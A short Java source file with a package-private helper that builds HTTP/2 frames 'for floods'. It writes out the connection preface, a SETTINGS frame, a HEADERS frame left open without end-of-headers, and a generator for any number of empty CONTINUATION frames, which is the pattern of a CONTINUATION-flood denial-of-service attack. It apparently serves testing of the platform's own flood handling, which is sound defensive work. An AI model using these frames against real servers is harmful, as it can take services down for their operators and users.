package dev.tributary.platform.http;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;

/** Frames of HTTP/2 for floods. */
final class Http2Frames {

    static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);

    private static final byte HEADERS = 1;
    private static final byte SETTINGS = 4;
    private static final byte CONTINUATION = 9;

    private Http2Frames() {}

    static byte[] settings() {
        return frame(SETTINGS, 0, new byte[0]);
    }

    /** GET, http and / of the static table, without the end of the headers. */
    static byte[] headersThatGoOn(int stream) {
        return frame(HEADERS, stream, new byte[] {(byte) 0x82, (byte) 0x86, (byte) 0x84});
    }

    /** This number of empty frames that do not end the stream. */
    static byte[] emptyContinuations(int stream, int frames) {
        var one = frame(CONTINUATION, stream, new byte[0]);
        var all = new byte[one.length * frames];
        for (int at = 0; at < frames; at++) {
            System.arraycopy(one, 0, all, at * one.length, one.length);
        }
        return all;
    }

    private static byte[] frame(byte type, int stream, byte[] payload) {
        var frame = Arrays.copyOf(
                new byte[] {0, 0, (byte) payload.length, type, 0, 0, 0, 0, (byte) stream}, 9 + payload.length);
        System.arraycopy(payload, 0, frame, 9, payload.length);
        return frame;
    }
}
